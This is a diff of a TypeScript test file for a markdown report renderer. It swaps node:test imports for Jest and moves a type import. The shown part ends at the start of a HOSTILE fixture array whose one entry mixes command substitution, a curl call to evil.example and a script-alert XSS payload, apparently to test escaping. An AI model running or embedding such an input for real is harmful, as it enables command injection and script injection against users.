@@ -1,9 +1,9 @@
 import assert from 'node:assert/strict';
-import { describe, it } from 'node:test';
+import { describe, it } from '@jest/globals';
 import { codeSpan, markdownText } from '../../src/report/markdown-escape.js';
 import { COMMENT_LIMIT, commentMarker, renderMarkdown } from '../../src/report/markdown.js';
 import { renderCompareText } from '../../src/report/compare-text.js';
-import type { ImageEntry, ImageReport } from '../../src/report/types.js';
+import type { ImageEntry, ImageReport } from '../../src/model/report.js';
 
 const HOSTILE = [
   'RUN echo `id` | tee /x && curl http://evil.example/?q=<script>alert(1)</script>',
